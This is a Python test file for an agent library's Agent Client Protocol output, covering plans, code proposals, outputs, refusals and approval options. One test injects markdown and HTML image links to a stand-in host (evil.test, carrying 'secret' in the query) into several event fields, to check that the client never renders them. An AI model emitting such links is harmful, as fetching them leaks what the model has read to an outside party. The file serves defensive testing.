"""What a client of the Agent Client Protocol is told of a session's events."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any, get_args

from acp import schema
from acp_person import text
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from smolcell.events import (
    Allowed,
    Answered,
    Asked,
    Bundle,
    Delta,
    Ended,
    Event,
    Fault,
    Finding,
    Kind,
    Observed,
    Proposed,
    Refused,
    Replied,
    Usage,
)
from smolcell.interop.acp import Updates
from smolcell.interop.answers import options, proposal_text, title

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAIAAAABCAIAAAB7QOjdAAAAC0lEQVR4nGNgAAMAAAcAAbKGrPQAAAAASUVORK5CYII="
PLACE: dict[str, Any] = {"run": "r", "step": 1}


def updates(events: Iterable[Event | Delta], **how: Any) -> list[Any]:
    made = Updates(**how)
    return [update for event in events for update in made.of(event)]


def allowed(text: str, **more: Any) -> Allowed:
    return Allowed(**PLACE, text=text, sha256="", by="person", **more)


def test_a_plan_that_was_approved_is_a_plan_and_is_done_with_the_run() -> None:
    plan = "I will:\n1. read the file\n2. sum it"
    events = [
        Proposed(**PLACE, kind="plan", text=plan),
        allowed(plan, kind="plan"),
        Ended(run="r", state="success", steps=1),
    ]
    plans = [update for update in updates(events) if isinstance(update, schema.AgentPlanUpdate)]
    told = [[(entry.content, entry.status) for entry in each.entries] for each in plans]
    assert told == [[("read the file", status), ("sum it", status)] for status in ("pending", "completed")]


def test_pictures_are_pictures_and_what_is_none_is_not() -> None:
    outputs = (Bundle(data={"image/png": PNG}), Bundle(data={"image/png": "Tm90IGEgcGljdHVyZQ=="}))
    events = [Proposed(**PLACE, text="plot()"), allowed("plot()"), Observed(**PLACE, stdout="drawn\n", outputs=outputs)]
    last = updates(events)[-1]
    assert (last.status, text(last.content)) == ("completed", "```python\nplot()\n```\n```\ndrawn\n```\n<image>")


def test_an_error_fails_the_call_and_names_what_to_type() -> None:
    fault = Fault(kind="forbidden", type="ImportError", message="no", hint="%agent allow zipfile")
    last = updates([Proposed(**PLACE, text="1"), allowed("1"), Observed(**PLACE, error=fault)])[-1]
    assert last.status == "failed"
    assert "ImportError: no\n%agent allow zipfile" in text(last.content)


def test_output_is_shown_as_it_is_printed_and_an_edit_replaces_the_code() -> None:
    events: list[Event | Delta] = [
        Proposed(**PLACE, text="1"),
        allowed("2", edited=True),
        Delta(run="r", step=1, channel="output", text="a"),
        Delta(run="r", step=1, channel="output", text="b"),
    ]
    assert [text(update.content) for update in updates(events)[-3:]] == [
        "```python\n2\n```",
        "```python\n2\n```\n```\na\n```",
        "```python\n2\n```\n```\nab\n```",
    ]


def test_the_runs_of_managed_agents_are_told_as_calls_and_not_as_answers() -> None:
    inner: list[Event] = [
        Asked(run="r-1", task="sum", parent="r", agent="adder"),
        Proposed(run="r-1", step=1, text="1 + 1"),
        Answered(run="r-1", step=1, text="2"),
        Ended(run="r-1", state="success", steps=1),
    ]
    told = updates([Asked(run="r", task="go"), *inner, Answered(run="r", step=1, text="two", is_text=True)])
    assert [update.title for update in told if isinstance(update, schema.ToolCallStart)] == [
        "Agent adder, step 1: Run Python"
    ]
    assert [update.content.text for update in told if isinstance(update, schema.AgentMessageChunk)][-1] == "two"
    assert len([update for update in told if isinstance(update, schema.AgentMessageChunk)]) == 2  # its code, the answer


def test_thoughts_usage_and_refusals_are_told() -> None:
    events: list[Event | Delta] = [
        Delta(run="r", step=1, channel="reasoning", text="first "),
        Replied(**PLACE, text="x", usage=Usage(input_tokens=10, output_tokens=5), window=1000),
        Proposed(**PLACE, text="1"),
        Refused(**PLACE, reason="no", by="person", then="continue"),
    ]
    told = updates(events, in_words=False)
    assert [type(update).__name__ for update in told] == [
        "AgentThoughtChunk",
        "UsageUpdate",
        "ToolCallStart",
        "ToolCallProgress",
    ]
    assert (told[1].used, told[1].size, told[-1].status) == (15, 1000, "failed")


def test_a_proposal_is_shown_whole_with_its_findings_and_what_cannot_be_seen() -> None:
    found = (Finding(kind="network", text="example.org", line=2, risk="high"), Finding(kind="import", text="math"))
    said = proposal_text(Proposed(**PLACE, text="x = 1\u200b", findings=found, why="Approval is ask."))
    assert said.split("\n") == [
        "```python",
        "x = 1\\u{200b}",
        "```",
        "- line 2, high risk: reaches into the network: example.org",
        "- imports math",
        "- characters that cannot be seen, shown as `\\u{…}`: ZERO WIDTH SPACE",
        "Approval is ask.",
    ]


@given(st.text(st.sampled_from("`~\n a\u202e"), max_size=60))
def test_no_code_ends_its_own_block(code: str) -> None:
    first, *rows = proposal_text(Proposed(**PLACE, text=code)).split("\n")
    fence = first.removesuffix("python")
    assert rows.index(fence) >= len(code.split("\n"))


def test_options_of_two_questions_have_nothing_in_common() -> None:
    proposal = Proposed(**PLACE, text="1")
    first, second = ({option.id for option in options(proposal)} for _ in range(2))
    assert not first & second


def test_nothing_that_a_client_draws_is_fetched() -> None:
    """A picture's address can carry what the model has read, and would be asked for before anybody approved a thing."""
    picture, html = "![x](http://evil.test/?q=secret)", "<img src='http://evil.test/?q=secret'>"
    bad = f"{picture} {html}\n![x][1]\n\n[1]: http://evil.test/"
    events: list[Event | Delta] = [
        Asked(run="r", task=bad),
        Delta(run="r", step=1, channel="reasoning", text=bad),
        Proposed(**PLACE, text=f"x = {bad!r}", thought=bad, why=bad, findings=(Finding(kind="file", text=bad),)),
        Refused(**PLACE, reason=bad, by="person", then="continue"),
        Proposed(run="r", step=2, kind="plan", text=bad),
        Answered(run="r", step=3, text=bad, is_text=True),
        Answered(run="r", step=3, text=bad),
        Ended(run="r", state="error", steps=3, error=bad),
    ]
    drawn = MarkdownIt("commonmark", {"html": True})
    for update in updates(events, replayed=True):
        content = update.content if isinstance(update.content, list) else [update]
        for part in content:
            tokens = drawn.parse(part.content.text)
            every = [*tokens, *(child for token in tokens for child in token.children or ())]
            assert not [token for token in every if token.type in ("image", "html_block", "html_inline")], part


def test_every_kind_of_proposal_has_a_title_and_can_be_refused() -> None:
    for kind in get_args(Kind):
        proposal = Proposed(**PLACE, kind=kind, text="x")
        assert title(proposal).startswith("Step 1: ") and [
            option for option in options(proposal) if option.label == "Refuse"
        ]
        assert updates([proposal])
